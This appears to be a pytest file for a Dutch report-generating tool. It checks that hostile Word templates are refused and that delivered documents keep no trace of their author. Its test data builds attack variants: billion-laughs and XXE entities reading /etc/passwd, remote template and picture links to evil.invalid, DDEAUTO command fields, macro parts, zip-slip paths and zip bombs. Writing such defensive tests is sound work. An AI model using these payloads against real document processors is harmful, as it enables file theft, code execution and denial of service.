"""A Word template that wants to do harm: refused in Dutch, or harmless; and nothing of its maker is in what is delivered."""

# ruff: noqa: E501 (pieces of XML are read best on one line)

from __future__ import annotations

import functools
import io
import random
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from lxml import etree
from word_files import (
    DOCUMENT,
    DOCUMENT_RELATIONS,
    OFFICE,
    RELATIONS,
    SETTINGS,
    STYLES,
    TYPES,
    in_body,
    parts_of,
    put,
    relate,
    template_parts,
    zipped,
)

from binnenskamers.__main__ import run
from conversation import Report, Transcript
from conversation.codec import decode_transcript, load_json
from summarize.fill import fill_form
from templates.check import check_template
from templates.errors import TemplateError
from templates.forms import form_names, load_form
from templates.word import fill_report

DEMO = Path(__file__).parents[2] / "binnenskamers" / "demo"
FORM = "wmo-onderzoeksverslag"
Parts = dict[str, bytes]
_ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "lol" * 10}">' for n in range(10))


def _doctype(parts: Parts, subset: str, use: str) -> None:
    text = parts[DOCUMENT].decode()
    head, body = text.split("?>", 1)
    parts[DOCUMENT] = f"{head}?><!DOCTYPE w [{subset}]>{body}".encode()
    in_body(parts, f"<w:p><w:r>{use}</w:r></w:p>")


def _field(*codes: str) -> str:
    pieces = "".join(f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"{begin}{pieces}{end}"


def _macro_type(parts: Parts) -> None:
    name = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts[TYPES] = parts[TYPES].replace(name, b"application/vnd.ms-word.document.macroEnabled.main+xml")


def _hidden_header(parts: Parts) -> None:
    """A header that does not call itself XML, with a field that fetches."""
    parts["word/kop.bin"] = parts["word/header1.xml"].replace(
        b"</w:hdr>", f"<w:p>{_field('INCLUDEPICTURE x')}</w:p></w:hdr>".encode()
    )
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    put(parts, TYPES, "</Types>", f'<Override PartName="/word/kop.bin" ContentType="{kind}"/>')
    relate(parts, "header", "kop.bin")


def _picture(parts: Parts) -> None:
    relate(parts, "image", "http://evil.invalid/x.png", external=True)


HOSTILE: dict[str, tuple[Callable[[Parts], object], str]] = {
    "billion laughs": (lambda p: _doctype(p, _ENTITIES, "<w:t>&a9;</w:t>"), "DTD|beschadigd"),
    "billion laughs in an attribute": (lambda p: _doctype(p, _ENTITIES, '<w:t w:x="&a9;"/>'), "DTD|beschadigd"),
    "external entity": (lambda p: _doctype(p, '<!ENTITY e SYSTEM "file:///etc/passwd">', "<w:t>&e;</w:t>"), "DTD"),
    "external dtd": (lambda p: _doctype(p, '<!ENTITY % e SYSTEM "http://evil.invalid/x.dtd"> %e;', "<w:t/>"), "DTD"),
    "remote template": (lambda p: relate(p, "attachedTemplate", "http://evil.invalid/x.dotm", external=True), "buiten het bestand"),
    "linked picture": (_picture, "buiten het bestand"),
    "linked picture, small letters": (
        lambda p: (_picture(p), p.update({DOCUMENT_RELATIONS: p[DOCUMENT_RELATIONS].replace(b'"External"', b'"external"')})),
        "buiten het bestand",
    ),
    "linked picture that says it is inside": (lambda p: relate(p, "image", "http://evil.invalid/x.png"), "buiten het bestand"),
    "linked picture on a share": (lambda p: relate(p, "image", r"\\evil.invalid\x.png", external=True), "buiten het bestand"),
    "linked object": (lambda p: relate(p, "oleObject", "file:///c:/x.exe", external=True), "buiten het bestand"),
    "hyperlink to a share": (lambda p: relate(p, "hyperlink", r"\\evil.invalid\x", external=True), "buiten het bestand"),
    "hyperlink to a file": (lambda p: relate(p, "hyperlink", "file:///C:/Users/jan/x.exe", external=True), "buiten het bestand"),
    "relations with other capitals": (
        lambda p: p.update({"word/_rels/header1.xml.RELS": p[DOCUMENT_RELATIONS].replace(b'Target="styles.xml"', b'Target="http://evil.invalid/" TargetMode="External"')}),
        "buiten het bestand",
    ),
    "embedded object": (lambda p: (relate(p, "oleObject", "embeddings/x.bin"), p.update({"word/embeddings/x.bin": b"MZ"})), "programma"),
    "embedded web page": (lambda p: (relate(p, "aFChunk", "x.html"), p.update({"word/x.html": b"<img src='http://evil.invalid'>"})), "programma"),
    "macros": (lambda p: p.update({"word/vbaProject.bin": b"\xd0\xcf"}), "macro"),
    "macros under another name": (
        lambda p: (p.update({"word/x.bin": b"\xd0\xcf"}), relate(p, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin")),
        "programma",
    ),
    "macro type": (_macro_type, "macro"),
    "activex": (lambda p: p.update({"word/activeX/activeX1.xml": b"<x/>"}), "macro"),
    "picture field": (lambda p: in_body(p, f"<w:p>{_field(' INCLUDEPICTURE http://evil.invalid ')}</w:p>"), "INCLUDEPICTURE"),
    "picture field in pieces": (lambda p: in_body(p, f"<w:p>{_field('PAGE')}{_field('INCLUDE', 'PICTURE http://evil.invalid')}</w:p>"), "INCLUDEPICTURE"),
    "picture field inside another": (
        lambda p: in_body(p, f"<w:p>{_field('IF 1 = 1').replace('</w:instrText></w:r>', '</w:instrText></w:r>' + _field('INCLUDETEXT x'), 1)}</w:p>"),
        "INCLUDETEXT",
    ),
    "command field": (lambda p: in_body(p, '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\x.exe"/></w:p>'), "DDEAUTO"),
    "hyperlink field to a share": (lambda p: in_body(p, '<w:p><w:fldSimple w:instr="HYPERLINK &quot;\\\\\\\\evil\\\\x&quot;"/></w:p>'), "HYPERLINK"),
    "field in a part without .xml": (_hidden_header, "INCLUDEPICTURE"),
    "old drawing": (
        lambda p: in_body(p, '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.invalid/x"/></v:shape></w:pict></w:r></w:p>'),
        "tekening",
    ),
    "name out of the file": (lambda p: p.update({"../../../etc/cron.d/x": b"x"}), "ergens anders"),
    "name from the root": (lambda p: p.update({"/etc/cron.d/x": b"x"}), "ergens anders|beschadigd"),
    "name of another drive": (lambda p: p.update({"c:\\windows\\x.dll": b"x"}), "ergens anders"),
    "the same part twice, other capitals": (lambda p: p.update({"WORD/DOCUMENT.XML": p[DOCUMENT]}), "beschadigd"),
    "broken xml": (lambda p: p.update({DOCUMENT: p[DOCUMENT][:-20]}), "beschadigd"),
    "empty xml": (lambda p: p.update({STYLES: b""}), "beschadigd"),
    "deep xml": (lambda p: in_body(p, "<w:p>" * 10_000 + "</w:p>" * 10_000), "beschadigd"),
    "no document": (lambda p: p.pop(DOCUMENT), "beschadigd"),
    "no list of types": (lambda p: p.pop(TYPES), "beschadigd"),
    "huge xml": (lambda p: in_body(p, "<w:p/>" * 3_000_000), "te groot"),
    "zip bomb": (lambda p: p.update({f"word/media/{n}.png": bytes(90 << 20) for n in range(2)}), "te groot"),
    "thousands of parts": (lambda p: p.update({f"word/media/{n}.png": b"" for n in range(3_000)}), "te groot"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_template_is_refused_in_dutch(tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str) -> None:
    change, said = HOSTILE[name]
    parts = template_parts()
    change(parts)
    path = tmp_path / "sjabloon.docx"
    path.write_bytes(zipped(parts))
    for command in (
        ["sjablonen", "controleer", str(path)],
        [
            "verslag",
            str(DEMO / "wmo.json"),
            "--word",
            str(path),
            "--naar",
            str(tmp_path / "uit"),
            "--taalmodel",
            "geen",
        ],
    ):
        assert run(command) == 3
        err = capsys.readouterr().err
        assert re.search(said, err), err
    assert not (tmp_path / "uit").exists()


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"PK\3\4",
        b"\xd0\xcf\x11\xe0" + bytes(1000),
        b"geen zip " * 1000,
        zipped(template_parts(), zipfile.ZIP_LZMA),
        zipped(template_parts(), zipfile.ZIP_BZIP2),
        bytes(65 << 20),
    ],
    ids=["empty", "only a start", "old or locked", "no zip", "lzma", "bzip2", "65 MB"],
)
def test_what_is_no_usable_word_file_is_refused(data: bytes) -> None:
    with pytest.raises(TemplateError) as caught:
        check_template(data, load_form(FORM))
    assert caught.value.exit_code == 3


def test_a_promised_size_is_not_believed() -> None:
    """The zip says that the part is small; unpacked it is not."""
    parts = template_parts()
    parts["word/media/x.png"] = bytes(200 << 20)
    data = zipped(parts).replace((200 << 20).to_bytes(4, "little"), (100).to_bytes(4, "little"))
    with pytest.raises(TemplateError):
        check_template(data, load_form(FORM))


def _spoilt(data: bytes, chance: random.Random) -> bytes:
    spoilt = bytearray(data)
    for _ in range(chance.choice([1, 2, 8])):
        at = chance.randrange(len(spoilt))
        match chance.randrange(4):
            case 0:
                spoilt[at] = chance.randrange(256)
            case 1:
                del spoilt[at : at + chance.choice([1, 16, 1000])]
            case 2:
                spoilt[at : at + 4] = chance.choice([b"\0\0\0\0", b"\xff\xff\xff\xff", b"PK\1\2", b"PK\5\6"])
            case _:
                spoilt[at:at] = spoilt[at : at + 64]
    return bytes(spoilt)


def _rearranged(data: bytes, chance: random.Random) -> bytes:
    """Elements of a part away, doubled, moved or emptied: well-formed, but not what Word would write."""
    root = etree.fromstring(data)
    for _ in range(chance.choice([1, 3, 10])):
        elements = [e for e in root.iter() if isinstance(e.tag, str) and e is not root]
        if not elements:
            break
        element, other = chance.choice(elements), chance.choice(elements)
        match chance.randrange(5):
            case 0:
                element.getparent().remove(element)
            case 1:
                element.getparent().append(etree.fromstring(etree.tostring(element)))
            case 2 if other not in element.iter() and other is not element:
                other.append(element)
            case 3:
                element[:] = []
            case _:
                for name in list(element.attrib):
                    element.set(name, chance.choice(["", "-1", "99999999999", "x" * 100, "[[hulpvraag]]"]))
    return etree.tostring(root)


@functools.cache
def _report() -> tuple[Report, Transcript]:
    transcript = decode_transcript(load_json((DEMO / "wmo.json").read_text(encoding="utf-8")))
    return fill_form(transcript, load_form(FORM)), transcript


def _taken(data: bytes) -> bool:
    """Whether a template was taken, and then gave a sound document; TemplateError is the one error that may come out."""
    form = load_form(FORM)
    try:
        check_template(data, form)
        filled = fill_report(*_report(), form, data)
    except TemplateError:
        return False
    for part, content in parts_of(filled).items():
        if part.endswith(".xml"):
            etree.fromstring(content)
    return True


def _many(count: int) -> None:
    parts = template_parts()
    whole = zipped(parts)
    xml = [name for name in parts if name.endswith((".xml", ".rels"))]
    taken = 0
    for number in range(count):
        chance = random.Random(number)
        taken += _taken(_spoilt(whole, chance))
        name = chance.choice([DOCUMENT, DOCUMENT, *xml])
        taken += _taken(zipped({**parts, name: _rearranged(parts[name], chance)}))
    assert 0 < taken < 2 * count, "the mutations are not interesting"


def test_spoilt_templates_give_a_document_or_a_refusal() -> None:
    _many(60)


@pytest.mark.zwaar
def test_a_thousand_spoilt_templates() -> None:
    _many(1_000)


# ---------------------------------------------------------------- what is delivered (R33)
_MAKER = ("Jan de Maker", "jan@", "Gemeente Geheim", r"C:\Users", "Verborgen", "Oud woord", "Opmerking", "DEADBEEF")


def _as_somebody_made_it() -> Parts:
    """Our template after somebody worked in it for a while with everything switched on."""
    parts = template_parts()
    by = 'w:author="Jan de Maker" w:date="2025-01-01T00:00:00Z"'
    parts[DOCUMENT] = parts[DOCUMENT].replace(b"<w:p>", b'<w:p w:rsidR="DEADBEEF" w:rsidRDefault="DEADBEEF">')
    in_body(
        parts,
        f'<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>Zichtbaar.</w:t></w:r><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>'
        f'<w:ins w:id="1" {by}><w:r><w:t>Nieuw woord.</w:t></w:r></w:ins><w:del w:id="2" {by}><w:r><w:delText>Oud woord</w:delText></w:r></w:del>'
        f'<w:r><w:rPr><w:vanish/></w:rPr><w:t>Verborgen een</w:t></w:r><w:r><w:rPr><w:rStyle w:val="Stil"/></w:rPr><w:t>Verborgen twee</w:t></w:r>'
        f'<w:r><w:rPr><w:vanish w:val="0"/><w:b/><w:rPrChange w:id="3" {by}><w:rPr/></w:rPrChange></w:rPr><w:t>Wel te zien.</w:t></w:r></w:p>'
        f'<w:tbl><w:tr><w:trPr><w:del w:id="4" {by}/></w:trPr><w:tc><w:p><w:r><w:t>Oud woord in een rij</w:t></w:r></w:p></w:tc></w:tr>'
        f"<w:tr><w:tc><w:p><w:r><w:t>Blijvende rij</w:t></w:r></w:p></w:tc></w:tr></w:tbl>",
    )
    put(
        parts,
        STYLES,
        "</w:styles>",
        '<w:style w:type="character" w:styleId="Stil"><w:name w:val="Stil"/><w:rsid w:val="DEADBEEF"/><w:rPr><w:vanish/></w:rPr></w:style>',
    )
    put(
        parts,
        SETTINGS,
        "<w:zoom",
        '<w:rsids><w:rsidRoot w:val="DEADBEEF"/><w:rsid w:val="DEADBEEF"/></w:rsids><w:trackRevisions/>',
    )
    put(parts, SETTINGS, "<w:zoom", '<w:mailMerge><w:query w:val="select * from C:\\Users\\jan"/></w:mailMerge>')
    names = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    parts["word/comments.xml"] = (
        f'<w:comments {names}><w:comment w:id="0" {by}><w:p><w:r><w:t>Opmerking</w:t></w:r></w:p></w:comment></w:comments>'.encode()
    )
    parts["word/people.xml"] = (
        b'<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"><w15:person w15:author="Jan de Maker"/></w15:people>'
    )
    parts["docProps/thumbnail.jpeg"] = b"\xff\xd8 Jan de Maker"
    relate(parts, "comments", "comments.xml")
    relate(parts, "http://schemas.microsoft.com/office/2011/relationships/people", "/word/people.xml")
    relate(
        parts,
        "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail",
        "docProps/thumbnail.jpeg",
        name=RELATIONS,
    )
    relate(
        parts,
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties",
        "docProps/app.xml",
        name=RELATIONS,
    )
    relate(
        parts,
        "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
        "package/x.psmdcp",
        name=RELATIONS,
    )
    put(
        parts,
        TYPES,
        "</Types>",
        '<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>',
    )
    put(
        parts,
        TYPES,
        "</Types>",
        '<Default Extension="psmdcp" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>',
    )
    put(
        parts,
        "docProps/core.xml",
        "<dc:title",
        "<dc:creator>Jan de Maker</dc:creator><cp:lastModifiedBy>Jan de Maker</cp:lastModifiedBy><cp:revision>812</cp:revision>",
    )
    parts["package/x.psmdcp"] = parts["docProps/core.xml"]
    custom = "http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"
    vt = "http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"
    item = '<property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="{}" name="{}"><vt:lpwstr>{}</vt:lpwstr></property>'
    items = item.format(2, "MSIP_Label_1_Owner", "jan@gemeente.invalid") + item.format("x", "Documentsoort", "verslag")
    parts["docProps/custom.xml"] = f'<Properties xmlns="{custom}" xmlns:vt="{vt}">{items}</Properties>'.encode()
    app = "http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"
    parts["docProps/app.xml"] = (
        f'<Properties xmlns="{app}"><Template>C:\\Users\\jan\\x.dotx</Template><Company>Gemeente Geheim</Company><Application>Word</Application></Properties>'.encode()
    )
    return parts


def _delivered(tmp_path: Path, *options: str, conversation: str = "wmo", document: str = "verslag") -> bytes:
    where = tmp_path / "uit"
    command = ["verslag", str(DEMO / f"{conversation}.json"), "--naar", str(where), "--taalmodel", "geen", *options]
    assert run(command) in (0, 8)
    return (where / f"{document}.docx").read_bytes()


def _check_hygiene(data: bytes, tmp_path: Path) -> None:
    parts = parts_of(data)
    everything = b"\n".join(parts.values()).decode("utf-8", "replace")
    assert not re.search(r"\brsid", everything)
    assert not re.search(r"<w:(ins|del|moveFrom|moveTo|vanish/|comment\w*|\w+Change)\b", everything)
    assert not [name for name in parts if re.search(r"comments|people|thumbnail|printer|vba|activex|embeddings", name)]
    assert "<dc:creator" not in everything
    assert "lastModifiedBy" not in everything
    assert str(tmp_path) not in everything
    assert not re.search(r"[A-Z]:\\|/home/|/root/|/Users/", everything)
    for name in (n for n in parts if n.endswith(".rels")):
        for relation in etree.fromstring(parts[name]):
            assert relation.get("TargetMode") != "External"
            target = relation.get("Target").lstrip("/")
            assert target in parts or f"word/{target}" in parts, target
    assert zipfile.ZipFile(io.BytesIO(data)).infolist()[0].date_time == (1980, 1, 1, 0, 0, 0)
    docx.Document(io.BytesIO(data))


@pytest.mark.parametrize("form", [name for name in form_names() if name != FORM])
def test_our_documents_tell_nothing_about_who_made_them(tmp_path: Path, form: str) -> None:
    conversation = "overleg" if form in ("notulen", "actie-en-besluitenlijst", "samenvattend-verslag") else "wmo"
    _check_hygiene(_delivered(tmp_path, "-s", form, conversation=conversation), tmp_path)


def test_the_transcript_in_word_tells_nothing_about_who_made_it(tmp_path: Path) -> None:
    _check_hygiene(_delivered(tmp_path, "-s", "transcript", document="transcript"), tmp_path)


def test_nothing_of_the_maker_of_a_template_is_delivered(tmp_path: Path) -> None:
    made = _as_somebody_made_it()
    before = b"\n".join(made.values()).decode("utf-8", "replace")
    assert all(mark in before for mark in _MAKER), "the template must hold what has to go"
    path = tmp_path / "sjabloon.docx"
    path.write_bytes(zipped(made))
    data = _delivered(tmp_path, "--word", str(path))
    _check_hygiene(data, tmp_path)
    after = b"\n".join(parts_of(data).values()).decode("utf-8", "replace")
    assert [mark for mark in _MAKER if mark in after] == []
    assert all(
        text in after for text in ("Zichtbaar.", "Nieuw woord.", "Wel te zien.", "Blijvende rij", "Documentsoort")
    )


def test_what_has_nothing_of_its_maker_stays_as_it_is(tmp_path: Path) -> None:
    parts = template_parts()
    relate(parts, "hyperlink", "https://www.gemeente.invalid/wmo", external=True)
    path = tmp_path / "sjabloon.docx"
    path.write_bytes(zipped(parts))
    after = parts_of(_delivered(tmp_path, "--word", str(path)))
    for name in (STYLES, SETTINGS, DOCUMENT_RELATIONS, "word/numbering.xml", "word/fontTable.xml"):
        assert after[name] == parts[name], name
    assert OFFICE.encode() in after[DOCUMENT_RELATIONS]
